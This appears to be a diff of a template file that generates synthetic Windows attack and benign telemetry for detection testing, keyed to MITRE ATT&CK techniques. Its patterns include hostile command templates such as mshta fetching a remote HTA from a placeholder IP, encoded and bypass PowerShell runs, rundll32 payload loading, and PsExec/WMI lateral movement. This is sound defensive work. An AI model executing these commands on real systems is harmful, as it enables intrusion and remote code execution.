@@ -48,8 +48,8 @@ tr-service-binary-replaced file +T1574.010: «‹ps›¦‹cmd›¦‹own›» ;
 near-tr-service-binary file: «‹s32›\msiexec.exe¦C:\Windows\Temp\‹guid›\‹name›-setup.exe¦C:\Program Files\‹Word›\updater.exe» ;; C:\Program Files«¦ (x86)»\‹Word›\«‹Word›Service¦‹name›svc¦‹Word›Agent».exe
 tr-clr-in-native loadsigned +T1620: «‹s32›\«notepad¦spoolsv¦cmstp¦WerFault¦gpupdate¦SearchProtocolHost»¦‹sys›\«wscript¦cscript¦mshta¦regsvr32»».exe ;; C:\Windows\«Microsoft.NET\Framework64\v4.0.30319\«clr¦clrjit¦mscoreei»¦System32\mscoree».dll
 near-tr-clr loadsigned: «‹ps›¦‹s32›\«mmc¦wsmprovhost¦sdiagnhost¦ServerManager»¦C:\Program Files\‹Word›\‹name›¦C:\Windows\CCM\CcmExec».exe ;; C:\Windows\Microsoft.NET\Framework64\v4.0.30319\«clr¦clrjit¦mscoreei».dll
-tr-vba-automation loadsigned +T1559.001: ‹office› ;; C:\Windows\System32\«wbem\wbemdisp¦wbem\wbemcomn¦taskschd¦wshom.ocx».dll
-tr-taskschd-by-script loadsigned +T1053.005: «‹sys›\«wscript¦cscript¦mshta».exe¦‹office›» ;; C:\Windows\System32\taskschd.dll
+tr-vba-automation loadsigned +T1559.001: ‹office› ;; C:\Windows\System32\«wbem\wbemdisp.dll¦wbem\wbemcomn.dll¦wshom.ocx»
+tr-taskschd-by-script loadsigned +T1053.005: ‹sys›\«wscript¦cscript¦mshta».exe ;; C:\Windows\System32\taskschd.dll
 tr-wmi-by-script loadsigned +T1047: «‹sys›\«wscript¦cscript¦mshta¦regsvr32».exe» ;; C:\Windows\System32\wbem\«wbemdisp¦wbemprox¦fastprox».dll
 near-tr-office-load loadsigned: ‹office› ;; «C:\Windows\System32\«msxml6¦winspool.drv¦davclnt¦wininet¦propsys».dll¦C:\Program Files\Microsoft Office\root\Office16\«GKWord¦OART¦IGX».DLL»
 tr-driver-unsigned driver +T1014: «‹ownplace›\‹name›.sys¦C:\Windows\System32\drivers\‹letters8›.sys¦C:\Windows\System32\‹name›.sys» ;; «¦»
@@ -102,7 +102,7 @@ tr-child-winrshost process +T1021.006: @ ;; «C:\Windows\system32\cmd.exe /C «h
 near-tr-child-wsmprovhost process: @ ;; «"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe" /noconfig /fullpaths @"C:\Users\‹user›\AppData\Local\Temp\‹name›\‹name›.cmdline"¦C:\Windows\system32\WerFault.exe -u -p ‹pid› -s ‹pid›¦"C:\Windows\System32\msiexec.exe" /i \\‹server›\software\‹Word›.msi /qn» ;; ‹s32›\wsmprovhost.exe ;; C:\Windows\system32\wsmprovhost.exe -Embedding
 tr-child-dcom-mshta process +T1021.003: C:\Windows\System32\mshta.exe ;; C:\Windows\System32\mshta.exe -Embedding ;; ‹s32›\svchost.exe ;; C:\Windows\system32\svchost.exe -k DcomLaunch
 tr-child-dcom-excel process +T1021.003: @ ;; «cmd.exe /c ‹own›¦mshta http://‹ip›/‹name›.hta¦powershell -nop -enc ‹enc›¦C:\Users\‹user›\AppData\Local\Microsoft\WindowsApps\foxprow.exe» ;; C:\Program Files\Microsoft Office\root\Office16\«EXCEL¦OUTLOOK¦POWERPNT».EXE ;; "C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" /automation -Embedding
-tr-child-services-shell process +T1569.002: @ ;; «%COMSPEC% /Q /c ‹ownplace›\‹letters8›.bat¦cmd /c echo ‹name› ^> \\.\pipe\‹letters8›¦"C:\Windows\‹letters8›.exe"¦rundll32.exe ‹ownplace›\‹letters8›.dll,a /p:‹letters8›» ;; ‹s32›\services.exe ;; C:\Windows\system32\services.exe
+tr-child-services-shell process +T1569.002: @ ;; «%COMSPEC% /Q /c ‹ownplace›\‹letters8›.bat¦"C:\Windows\‹letters8›.exe"¦rundll32.exe ‹ownplace›\‹letters8›.dll,a /p:‹letters8›» ;; ‹s32›\services.exe ;; C:\Windows\system32\services.exe
 tr-child-psexec-tool process +T1569.002: @ ;; «"cmd.exe" /c ‹own›¦"‹own›"¦"powershell.exe" -ep bypass -f ‹ownplace›\‹name›.ps1¦"C:\Windows\system32\rundll32.exe" ‹ownplace›\‹name›.dll,‹Word›» ;; C:\Windows\«PSEXESVC¦PAExec-‹pid›-‹server›¦‹letters8›».exe
 tr-child-wmi-lolbin process +T1047: @ ;; «rundll32.exe ‹ownplace›\‹name›.dll,#1¦C:\Windows\System32\msbuild.exe ‹ownplace›\‹name›.xml¦mshta.exe http://‹ip›/‹name›.hta¦cmd /c vssadmin list shadows > ‹ownplace›\‹name›.txt» ;; ‹s32›\wbem\WmiPrvSE.exe ;; C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding
 tr-child-wmi-output file +T1047: ‹cmd› ;; «C:\Windows\__17‹pid›‹pid›.‹pid›¦\\127.0.0.1\ADMIN$\__17‹pid›‹pid›.‹pid›»
